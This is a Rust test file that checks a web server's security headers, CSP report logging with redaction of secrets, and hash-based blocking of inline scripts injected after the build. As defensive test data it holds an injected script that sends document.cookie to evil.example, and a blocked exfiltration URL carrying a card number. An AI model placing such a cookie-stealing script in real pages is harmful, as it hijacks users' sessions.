//! The link origin's headers (isolation, permissions, reporting, Trusted
//! Types) and its CSP report endpoint.

use crate::common::{Ask, Side, T};
use reqwest::{Method, StatusCode};
use serde_json::{json, Value};

/// Posts `body` of type `kind` to the CSP report endpoint; its status.
async fn report(t: &T, kind: &str, body: String) -> StatusCode {
    let ask = Ask::new(Method::POST, Side::Link, "/csp-reports").body(kind, body);
    t.send(ask).await.status
}

/// The link origin's answer to `GET path`, over its socket.
async fn link_get(t: &T, path: &str) -> reqwest::Response {
    t.http
        .get(format!("{}{path}", t.link))
        .send()
        .await
        .unwrap()
}

/// The security log's lines so far.
pub fn log_lines(t: &T) -> Vec<Value> {
    std::fs::read_to_string(t.dir.path().join("security.log"))
        .unwrap_or_default()
        .lines()
        .map(|l| serde_json::from_str(l).expect("every security line is JSON"))
        .collect()
}

#[tokio::test(flavor = "multi_thread")]
async fn link_pages_isolate_themselves_and_deny_what_they_do_not_use() {
    let t = T::new().await;
    for path in [
        "/connect/secure?sl=x",
        "/checkout/?sl=x",
        "/preview",
        "/favicon.svg",
        "/api/v1/institutions",
        "/no/such/page",
    ] {
        let r = link_get(&t, path).await;
        let h = r.headers();
        assert_eq!(h["cross-origin-opener-policy"], "same-origin", "{path}");
        assert_eq!(h["cross-origin-resource-policy"], "same-origin", "{path}");
        assert_eq!(h["x-content-type-options"], "nosniff", "{path}");
        assert_eq!(h["referrer-policy"], "no-referrer", "{path}");
        assert_eq!(h["x-frame-options"], "DENY", "{path}");
        let pp = h["permissions-policy"].to_str().unwrap();
        for feature in [
            "camera=()",
            "microphone=()",
            "geolocation=()",
            "payment=()",
            "usb=()",
        ] {
            assert!(pp.contains(feature), "{path}: {feature} not denied in {pp}");
        }
        // The studio copies its JSON, the checkout its receipt's words.
        let clipboard = match path {
            p if p.starts_with("/preview") || p.starts_with("/checkout") => {
                "clipboard-write=(self)"
            }
            _ => "clipboard-write=()",
        };
        assert!(pp.contains(clipboard), "{path}: {pp}");
        // Over http the Reporting API is not used (`report-uri` is).
        assert!(h.get("reporting-endpoints").is_none(), "{path}");
    }
    for path in ["/connect/secure?sl=x", "/checkout/?sl=x", "/preview"] {
        let r = link_get(&t, path).await;
        let csp = r.headers()["content-security-policy"].to_str().unwrap();
        for d in [
            "require-trusted-types-for 'script'",
            "trusted-types tachys",
            "report-uri /csp-reports",
        ] {
            assert!(csp.contains(d), "{path}: {d} missing from {csp}");
        }
        assert!(!csp.contains("report-to"), "{path}: {csp}");
    }
}

/// Behind a TLS proxy (an https public base), pages also name the
/// Reporting API endpoint.
#[tokio::test(flavor = "multi_thread")]
async fn over_https_pages_also_report_through_the_reporting_api() {
    let dir = tempfile::tempdir().unwrap();
    let cfg = link_server::Config {
        public_link_base: Some("https://link.example.com".into()),
        ..crate::common::config(dir.path())
    };
    let srv = link_server::start(cfg).await.expect("server starts");
    let page = format!("http://{}/connect/secure?sl=x", srv.link_addr);
    let r = reqwest::get(&page).await.unwrap();
    let h = r.headers();
    assert_eq!(
        h["reporting-endpoints"],
        "csp=\"https://link.example.com/csp-reports\""
    );
    let csp = h["content-security-policy"].to_str().unwrap();
    assert!(
        csp.ends_with("report-uri /csp-reports; report-to csp"),
        "{csp}"
    );
    srv.shutdown().await;
}

#[tokio::test(flavor = "multi_thread")]
async fn a_csp_report_is_accepted_and_logged_without_the_slug_or_the_sample() {
    let t = T::new().await;
    let legacy = json!({"csp-report": {
        "document-uri": format!("{}/connect/secure?sl=the-secret-slug", t.link),
        "violated-directive": "script-src-elem",
        "effective-directive": "script-src-elem",
        "blocked-uri": "inline",
        "line-number": 70,
        "disposition": "enforce",
        "script-sample": "window.__injected = '4111111111111111'"
    }});
    let status = report(&t, "application/csp-report", legacy.to_string()).await;
    assert_eq!(status, StatusCode::NO_CONTENT);
    let batch = json!([{"type": "csp-violation", "age": 1, "url": "x", "user_agent": "x", "body": {
        "documentURL": format!("{}/checkout/?sl=other-slug", t.link),
        "effectiveDirective": "connect-src",
        "blockedURL": "https://evil.example/collect?n=4111111111111111",
        "disposition": "enforce"
    }}]);
    let status = report(&t, "application/reports+json", batch.to_string()).await;
    assert_eq!(status, StatusCode::NO_CONTENT);

    let log = std::fs::read_to_string(t.dir.path().join("security.log")).unwrap();
    for secret in [
        "the-secret-slug",
        "other-slug",
        "4111111111111111",
        "__injected",
    ] {
        assert!(!log.contains(secret), "{secret} logged: {log}");
    }
    let reports: Vec<Value> = log_lines(&t)
        .into_iter()
        .filter(|l| l["event"] == "csp_report")
        .collect();
    assert_eq!(reports.len(), 2, "{log}");
    assert_eq!(reports[0]["directive"], "script-src-elem");
    assert_eq!(reports[0]["blocked"], "inline");
    assert_eq!(reports[0]["page"], "/connect/secure");
    assert_eq!(reports[1]["directive"], "connect-src");
    assert_eq!(reports[1]["blocked"], "https://evil.example");
    assert_eq!(reports[1]["page"], "/checkout/");
}

#[tokio::test(flavor = "multi_thread")]
async fn the_report_endpoint_refuses_what_is_not_a_report() {
    let t = T::new().await;
    let big = format!(
        "{{\"csp-report\":{{\"blocked-uri\":\"{}\"}}}}",
        "a".repeat(20_000)
    );
    // What each refused body answers.
    for (kind, body, status) in [
        ("application/csp-report", big, StatusCode::PAYLOAD_TOO_LARGE),
        (
            "text/plain",
            "{}".into(),
            StatusCode::UNSUPPORTED_MEDIA_TYPE,
        ),
        (
            "application/csp-report",
            "not json".into(),
            StatusCode::BAD_REQUEST,
        ),
        (
            "application/reports+json",
            "[]".into(),
            StatusCode::BAD_REQUEST,
        ),
    ] {
        assert_eq!(report(&t, kind, body).await, status, "{kind}");
    }
    let get = Ask::new(Method::GET, Side::Link, "/csp-reports");
    assert_eq!(t.send(get).await.status, StatusCode::METHOD_NOT_ALLOWED);
    assert!(!std::fs::read_to_string(t.dir.path().join("security.log"))
        .unwrap_or_default()
        .contains("csp_report"));
}

#[tokio::test(flavor = "multi_thread")]
async fn an_inline_script_added_after_the_build_is_not_allowed_to_run() {
    use base64::Engine;
    use sha2::Digest;
    let t = T::new().await;
    let hash = |s: &str| {
        let d = sha2::Sha256::digest(s.as_bytes());
        format!(
            "'sha256-{}'",
            base64::engine::general_purpose::STANDARD.encode(d)
        )
    };
    let csp = |r: &reqwest::Response| {
        r.headers()["content-security-policy"]
            .to_str()
            .unwrap()
            .to_string()
    };
    let page = format!("{}/connect/secure?sl=x", t.link);
    let before = csp(&t.http.get(&page).send().await.unwrap());
    assert!(
        before.contains(&hash(crate::common::INLINE_SCRIPT)),
        "{before}"
    );
    // Someone with write access to the served files adds a script.
    let injected = "fetch('https://evil.example/?'+document.cookie)";
    let index = t.dir.path().join("dist/index.html");
    let html = std::fs::read_to_string(&index).unwrap();
    let html = html.replace("</body>", &format!("<script>{injected}</script></body>"));
    std::fs::write(&index, html).unwrap();
    let r = t.http.get(&page).send().await.unwrap();
    let after = csp(&r);
    assert!(
        r.text().await.unwrap().contains(injected),
        "the file is served as it is"
    );
    assert!(!after.contains(&hash(injected)), "{after}");
    assert!(
        after.contains(&hash(crate::common::INLINE_SCRIPT)),
        "{after}"
    );
    // A build with no inventory lets no inline script run at all.
    std::fs::remove_file(t.dir.path().join("dist/.script-inventory.json")).unwrap();
    let none = csp(&t.http.get(&page).send().await.unwrap());
    assert!(
        none.contains("script-src 'self' 'wasm-unsafe-eval';"),
        "{none}"
    );
}

#[tokio::test(flavor = "multi_thread")]
async fn refusals_by_the_size_limit_carry_the_headers_too() {
    let t = T::new().await;
    for url in [
        format!("{}/api/v1/connect-links/x/accounts", t.link),
        format!("{}/end-users/create", t.api),
    ] {
        let r = t
            .http
            .post(&url)
            .header("content-type", "application/json")
            .body(vec![b' '; 200 * 1024])
            .send()
            .await
            .unwrap();
        assert_eq!(r.status(), StatusCode::PAYLOAD_TOO_LARGE, "{url}");
        let h = r.headers();
        assert_eq!(h["x-content-type-options"], "nosniff", "{url}");
        assert_eq!(h["cache-control"], "no-store", "{url}");
        assert_eq!(h["cross-origin-resource-policy"], "same-origin", "{url}");
        assert!(
            h["content-security-policy"]
                .to_str()
                .unwrap()
                .starts_with("default-src 'none'"),
            "{url}"
        );
    }
}
